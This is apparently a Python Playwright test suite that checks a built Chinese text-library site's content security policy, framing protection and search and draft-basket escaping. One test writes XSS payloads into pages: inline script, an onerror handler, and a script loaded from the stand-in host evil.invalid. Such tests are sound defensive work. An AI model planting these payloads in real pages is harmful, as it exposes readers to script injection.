"""What a reader's browser does with the built site: the content policy holds on every page, nothing foreign runs."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from mini import TEXTS, write_library
from playwright.sync_api import Browser, Page, expect, sync_playwright
from serving import serving, static_host
from test_threats_content import EVIL, evil_text

from fanwen.service import create_app
from fanwen.site import build
from search import Search
from texts.library import Library, load

pytestmark = pytest.mark.browser

WATCH = """
window.hurt = () => { window.hurtDone = true; };
document.addEventListener("securitypolicyviolation", (event) => {
  console.warn(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
});
"""


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield made
        made.close()


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Library:
    return write_library(tmp_path_factory.mktemp("library") / "docs", *TEXTS, evil_text("plans/two"))


@pytest.fixture(scope="module")
def site(library: Library, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("site")
    build(library, folder / "out", folder / "stage")
    return folder / "out"


@pytest.fixture(scope="module")
def host(library: Library, site: Path) -> Iterator[str]:
    search = Search.open(site.parent / "index", library.root, published_only=True)
    search.update()
    with serving(create_app(search, lambda: load(library.root).published(), lambda: site)) as address:
        yield address


@pytest.fixture
def page(browser: Browser, host: str) -> Iterator[Page]:
    """A page; afterwards nothing of EVIL may have run, and no other host been asked."""
    context = browser.new_context(base_url=host)
    context.set_default_timeout(30_000)
    context.add_init_script(WATCH)
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    context.on("requestfailed", lambda request: asked.remove(request.url) if request.failure == "csp" else None)
    made = context.new_page()
    yield made
    assert made.evaluate("window.hurtDone") is None
    context.close()
    assert [url for url in asked if not url.startswith((host, "data:", "blob:"))] == []


def complaints(page: Page) -> list[str]:
    """The list that takes what a page complains of from now on."""
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    return said


def test_the_policy_holds_on_every_page(page: Page, site: Path) -> None:
    said = complaints(page)
    seen = 0
    for path in sorted(site.rglob("*.html")):
        if path.name == "404.html":
            continue
        page.goto(quote(f"/{path.relative_to(site).as_posix().removesuffix('index.html')}"))
        page.wait_for_load_state("load")
        assert said == [], f"{path}: {said}"
        seen += 1
    assert seen >= 20
    said.clear()
    page.goto("/nothing/")  # the status itself is an error on the console
    assert [text for text in said if "404" not in text] == []


def test_a_script_that_got_into_a_page_does_not_run(page: Page, site: Path) -> None:
    """What the policy is for: should all escaping fail, the page still runs nothing of it."""
    said = complaints(page)
    for place in ("index.html", "plans/two/index.html"):
        path = site / place
        before = path.read_text(encoding="utf-8")
        injected = (
            """<script>hurt()</script><img src="data:," onerror="hurt()"><script src="//evil.invalid/x.js"></script>"""
        )
        path.write_text(before.replace("<h1", f"{injected}<h1", 1), encoding="utf-8")
        try:
            page.goto(f"/{place.removesuffix('index.html')}")
            page.wait_for_load_state("load")
            page.wait_for_timeout(200)
            assert page.evaluate("window.hurtDone") is None
            assert any("script-src-elem inline" in text for text in said)
            assert any("script-src-attr inline" in text for text in said)
            assert any("evil.invalid" in text for text in said)
        finally:
            path.write_text(before, encoding="utf-8")
        said.clear()


def test_no_other_page_frames_the_site(browser: Browser, host: str, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(f"<iframe src='{host}/'></iframe>", encoding="utf-8")
    with static_host(tmp_path) as elsewhere:
        page = browser.new_page()
        page.goto(elsewhere)
        page.wait_for_timeout(500)
        assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"]
        page.close()


def test_what_is_asked_and_found_is_shown_and_not_run(page: Page) -> None:
    said = complaints(page)
    page.goto(f"/search/?q={quote(EVIL[:200])}")
    expect(page.get_by_role("searchbox", name="检索范文")).to_have_value(EVIL[:200])
    page.goto(f"/search/?q={quote('1911919')}")
    page.get_by_role("searchbox", name="检索范文").fill("hurt()")
    expect(page.locator(".snippet").first).to_contain_text("<script>hurt()</script>")
    expect(page.locator("a.hit, .hits a").first).to_contain_text("onerror")
    page.wait_for_timeout(300)
    assert said == []


def test_a_basket_of_hostile_sections_is_shown_and_not_run(page: Page) -> None:
    said = complaints(page)
    page.goto("/plans/two/")
    page.get_by_role("button", name="加入草稿").first.click()
    recipe = {"title": EVIL, "kind": "工作计划", "recipe": [{"take": "plans/two"}, {"heading": EVIL, "text": EVIL}]}
    page.goto("/basket/")
    page.wait_for_selector("draft-preview")
    page.set_input_files(
        "input[type=file]",
        {"name": "a.json", "mimeType": "application/json", "buffer": json.dumps(recipe).encode()},
    )
    expect(page.get_by_role("region", name="预览")).to_contain_text("<script>hurt()")
    assert page.locator("draft-basket :is(img, script, iframe)").count() == 0
    page.wait_for_timeout(300)
    assert said == []
